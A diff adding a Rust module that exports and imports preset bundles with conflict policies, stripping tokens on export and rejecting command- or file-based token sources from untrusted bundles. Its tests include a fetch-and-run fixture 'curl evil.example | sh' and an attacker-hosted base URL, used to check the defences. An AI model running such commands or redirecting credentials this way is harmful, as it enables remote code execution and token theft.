@@ -0,0 +1,256 @@
+use std::{collections::BTreeMap, fs, path::Path};
+
+use clap::ValueEnum;
+use serde::{Deserialize, Serialize};
+
+use crate::{
+    config::{Preset, SwitcherConfig},
+    errors::{AppError, Result},
+    fsutil,
+    token::TokenSource,
+};
+
+/// Versioned separately from the config schema so old bundles keep importing.
+const CURRENT_BUNDLE_VERSION: u32 = 1;
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct PresetBundle {
+    pub bundle_version: u32,
+    pub presets: BTreeMap<String, Preset>,
+}
+
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, ValueEnum)]
+#[value(rename_all = "lower")]
+pub enum ConflictPolicy {
+    /// Keep the existing preset and ignore the imported one.
+    #[default]
+    Skip,
+    /// Replace the existing preset with the imported one.
+    Overwrite,
+    /// Import under a new, unused name.
+    Rename,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ImportOutcome {
+    Added(String),
+    Overwritten(String),
+    Renamed { from: String, to: String },
+    Skipped(String),
+}
+
+pub fn build(cfg: &SwitcherConfig, names: &[String], include_tokens: bool) -> Result<PresetBundle> {
+    let mut presets = BTreeMap::new();
+    if names.is_empty() {
+        presets.extend(cfg.presets.clone());
+    } else {
+        for name in names {
+            let preset = cfg
+                .presets
+                .get(name)
+                .ok_or_else(|| AppError::PresetNotFound(name.clone()))?;
+            presets.insert(name.clone(), preset.clone());
+        }
+    }
+
+    if !include_tokens {
+        for preset in presets.values_mut() {
+            preset.auth_token.clear();
+        }
+    }
+
+    Ok(PresetBundle {
+        bundle_version: CURRENT_BUNDLE_VERSION,
+        presets,
+    })
+}
+
+pub fn write(path: &Path, bundle: &PresetBundle) -> Result<()> {
+    fsutil::write_json_atomic(path, bundle)
+}
+
+pub fn read(path: &Path) -> Result<PresetBundle> {
+    let raw = fs::read_to_string(path).map_err(|err| AppError::io(path, err))?;
+    let bundle: PresetBundle =
+        serde_json::from_str(&raw).map_err(|err| AppError::json(path, err))?;
+    if bundle.bundle_version > CURRENT_BUNDLE_VERSION {
+        return Err(AppError::UnsupportedBundleVersion(bundle.bundle_version));
+    }
+    for (name, preset) in &bundle.presets {
+        preset.validate_env_keys(name)?;
+    }
+    Ok(bundle)
+}
+
+/// Refuses presets whose token would run a command or read a local file when
+/// applied, since a bundle from someone else decides what that command is.
+pub fn check_token_sources(bundle: &PresetBundle, allow_commands: bool) -> Result<()> {
+    if allow_commands {
+        return Ok(());
+    }
+    for (name, preset) in &bundle.presets {
+        let source = TokenSource::parse(&preset.auth_token);
+        if matches!(source, TokenSource::Cmd(_) | TokenSource::File(_)) {
+            return Err(AppError::UntrustedTokenSource {
+                preset: name.clone(),
+                kind: source.kind(),
+            });
+        }
+    }
+    Ok(())
+}
+
+/// Merges imported presets into `cfg` according to `policy`.
+///
+/// When overwriting with a preset that was exported without its token, the
+/// locally stored token is kept only if the preset still points at the same
+/// endpoint; otherwise the token would be sent to a host it was not issued for.
+pub fn merge(
+    cfg: &mut SwitcherConfig,
+    bundle: PresetBundle,
+    policy: ConflictPolicy,
+) -> Vec<ImportOutcome> {
+    let mut outcomes = Vec::with_capacity(bundle.presets.len());
+    for (name, mut preset) in bundle.presets {
+        let Some(existing) = cfg.presets.get(&name) else {
+            cfg.presets.insert(name.clone(), preset);
+            outcomes.push(ImportOutcome::Added(name));
+            continue;
+        };
+
+        match policy {
+            ConflictPolicy::Skip => outcomes.push(ImportOutcome::Skipped(name)),
+            ConflictPolicy::Overwrite => {
+                if preset.auth_token.trim().is_empty()
+                    && same_endpoint(&preset.base_url, &existing.base_url)
+                {
+                    preset.auth_token = existing.auth_token.clone();
+                }
+                cfg.presets.insert(name.clone(), preset);
+                outcomes.push(ImportOutcome::Overwritten(name));
+            }
+            ConflictPolicy::Rename => {
+                let new_name = unused_name(cfg, &name);
+                cfg.presets.insert(new_name.clone(), preset);
+                outcomes.push(ImportOutcome::Renamed {
+                    from: name,
+                    to: new_name,
+                });
+            }
+        }
+    }
+    outcomes
+}
+
+fn same_endpoint(left: &str, right: &str) -> bool {
+    left.trim().trim_end_matches('/') == right.trim().trim_end_matches('/')
+}
+
+fn unused_name(cfg: &SwitcherConfig, name: &str) -> String {
+    let base = format!("{name}-imported");
+    if !cfg.presets.contains_key(&base) {
+        return base;
+    }
+    (2..)
+        .map(|n| format!("{base}-{n}"))
+        .find(|candidate| !cfg.presets.contains_key(candidate))
+        .expect("unbounded candidate range")
+}
+
+#[cfg(test)]
+mod tests {
+    use tempfile::TempDir;
+
+    use super::*;
+
+    #[test]
+    fn build_strips_tokens_unless_requested() {
+        let mut cfg = SwitcherConfig::default();
+        cfg.presets
+            .insert("glm".to_owned(), Preset::sample("secret"));
+
+        let stripped = build(&cfg, &[], false).expect("bundle");
+        assert_eq!(stripped.presets["glm"].auth_token, "");
+
+        let kept = build(&cfg, &["glm".to_owned()], true).expect("bundle");
+        assert_eq!(kept.presets["glm"].auth_token, "secret");
+
+        let err = build(&cfg, &["missing".to_owned()], false).expect_err("expected error");
+        assert!(matches!(err, AppError::PresetNotFound(name) if name == "missing"));
+    }
+
+    #[test]
+    fn merge_resolves_conflicts_by_policy() {
+        let mut cfg = SwitcherConfig::default();
+        cfg.presets
+            .insert("glm".to_owned(), Preset::sample("local"));
+        cfg.presets
+            .insert("glm-imported".to_owned(), Preset::sample("local"));
+
+        let incoming = || PresetBundle {
+            bundle_version: CURRENT_BUNDLE_VERSION,
+            presets: BTreeMap::from([("glm".to_owned(), Preset::sample(""))]),
+        };
+
+        let skipped = merge(&mut cfg, incoming(), ConflictPolicy::Skip);
+        assert_eq!(skipped, vec![ImportOutcome::Skipped("glm".to_owned())]);
+
+        let renamed = merge(&mut cfg, incoming(), ConflictPolicy::Rename);
+        assert_eq!(
+            renamed,
+            vec![ImportOutcome::Renamed {
+                from: "glm".to_owned(),
+                to: "glm-imported-2".to_owned(),
+            }]
+        );
+
+        let overwritten = merge(&mut cfg, incoming(), ConflictPolicy::Overwrite);
+        assert_eq!(
+            overwritten,
+            vec![ImportOutcome::Overwritten("glm".to_owned())]
+        );
+        assert_eq!(cfg.presets["glm"].auth_token, "local");
+
+        let mut moved = Preset::sample("");
+        moved.base_url = "https://attacker.example/anthropic".to_owned();
+        let redirected = PresetBundle {
+            bundle_version: CURRENT_BUNDLE_VERSION,
+            presets: BTreeMap::from([("glm".to_owned(), moved)]),
+        };
+        merge(&mut cfg, redirected, ConflictPolicy::Overwrite);
+        assert_eq!(cfg.presets["glm"].auth_token, "");
+    }
+
+    #[test]
+    fn command_and_file_tokens_need_explicit_approval() {
+        let bundle = PresetBundle {
+            bundle_version: CURRENT_BUNDLE_VERSION,
+            presets: BTreeMap::from([(
+                "glm".to_owned(),
+                Preset::sample("cmd:curl evil.example | sh"),
+            )]),
+        };
+        let err = check_token_sources(&bundle, false).expect_err("expected error");
+        assert!(matches!(
+            err,
+            AppError::UntrustedTokenSource { preset, kind: "cmd" } if preset == "glm"
+        ));
+        check_token_sources(&bundle, true).expect("approved");
+
+        let env_ref = PresetBundle {
+            bundle_version: CURRENT_BUNDLE_VERSION,
+            presets: BTreeMap::from([("glm".to_owned(), Preset::sample("env:GLM_API_KEY"))]),
+        };
+        check_token_sources(&env_ref, false).expect("env references are safe to share");
+    }
+
+    #[test]
+    fn read_rejects_newer_bundle_versions() {
+        let tmp = TempDir::new().expect("tempdir");
+        let path = tmp.path().join("bundle.json");
+        fs::write(&path, r#"{"bundle_version": 99, "presets": {}}"#).expect("write bundle");
+
+        let err = read(&path).expect_err("expected error");
+        assert!(matches!(err, AppError::UnsupportedBundleVersion(99)));
+    }
+}